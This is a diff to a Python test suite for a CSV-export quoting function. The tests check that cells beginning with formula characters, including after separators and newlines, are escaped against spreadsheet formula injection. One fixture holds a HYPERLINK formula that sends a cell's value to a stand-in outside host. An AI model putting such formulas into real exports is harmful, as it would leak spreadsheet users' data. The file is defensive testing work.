@@ -17,7 +17,7 @@ from sayso.data.rows.files import read_rows
 from sayso.data.settings.options import options_of
 from sayso.data.tabular.spreadsheets import BOM, csv_text, quoted, unquoted
 
-STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
+STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
 CALL = '=HYPERLINK("http://tarnholm.example/?x="&A1,"open")'
 TEXT = f"{CALL} The ferry waited, the harbour office said. -2 degrees were measured on deck."
 
@@ -42,10 +42,17 @@ def test_each_beginning_of_a_formula_is_quoted_and_comes_back(start):
         assert unquoted(quoted(cell)) == cell
 
 
-@given(st.text())
+@given(st.text() | st.text("'=+;\n\t\ra"))
 def test_what_is_quoted_comes_back(cell):
     assert unquoted(quoted(cell)) == cell
     assert not quoted(cell).startswith(STARTS)
+
+
+@pytest.mark.parametrize("before", ["a;", "a\n", "a;;", "a\n\n"])
+def test_no_formula_begins_where_a_spreadsheet_may_divide_a_cell(before):
+    assert quoted(f"{before}=1;-2") == f"{before}'=1;'-2"
+    assert unquoted(f"{before}'=1;'-2") == f"{before}=1;-2"
+    assert quoted("a; -2 = b\n c") == "a; -2 = b\n c"
 
 
 @given(st.lists(st.lists(st.text(st.characters(blacklist_characters="\0", blacklist_categories=["Cs"])), min_size=2)))
